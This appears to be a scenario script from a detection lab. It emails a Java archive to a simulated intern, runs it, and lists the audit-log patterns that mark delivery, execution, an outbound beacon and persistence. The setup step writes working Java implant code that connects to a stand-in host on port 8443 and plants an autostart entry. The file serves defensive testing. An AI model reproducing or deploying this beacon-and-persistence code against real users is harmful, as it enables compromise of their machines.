# A Java archive is a program for whoever has Java.
title="Attached Java archive run with java -jar"
what="The intern saves BankForm.jar with Thunderbird and runs it with java -jar in a terminal. It connects to 203.0.113.67 port 8443 and leaves a file in ~/.config/autostart."
host=ws3.example.org user=intern daemons="cron dovecot" audit_rules=audit-wide.rules

setup() {
  dovecot_config
  mkdir "$base/out/j"
  cat > "$base/out/j/Form.java" <<'P'
import java.net.Socket;
import java.nio.file.*;
public class Form {
  public static void main(String[] args) throws Exception {
    try (Socket s = new Socket("203.0.113.67", 8443)) { s.getOutputStream().write("here\n".getBytes()); }
    Path at = Paths.get(System.getProperty("user.home"), ".config", "autostart");
    Files.createDirectories(at);
    Files.write(at.resolve("form.desktop"), "[Desktop Entry]\nType=Application\nName=Form\nExec=java -jar Downloads/BankForm.jar\n".getBytes());
  }
}
P
  (cd "$base/out/j" && javac Form.java && jar cfe ../BankForm.jar Form Form.class)
}
act() {
  display_up
  small_talk 2
  mail_in --from forms@example.com --to intern@example.org --subject "Form for your account" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/BankForm.jar:application/java-archive"
  wait_log 'from=<forms@example.com>'; wait_mail intern 1; sleep 1
  thunderbird_save intern BankForm.jar Downloads
  sleep 2
  console_as intern <<'L'
cd Downloads
java -jar BankForm.jar
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<intern@example.org>.*status=sent' 'the message is delivered'
  file_step save 'thunderbird.*BankForm.jar' 'the mail client saves the attachment'
  exec_step execute 'java -jar BankForm.jar' 'Java runs it'
  net_step beacon 'java .*203.0.113.67.*:8443' 'it calls out'
  file_step stay 'java open(at)?:write CREATE .*autostart/form.desktop' 'and stays'
}
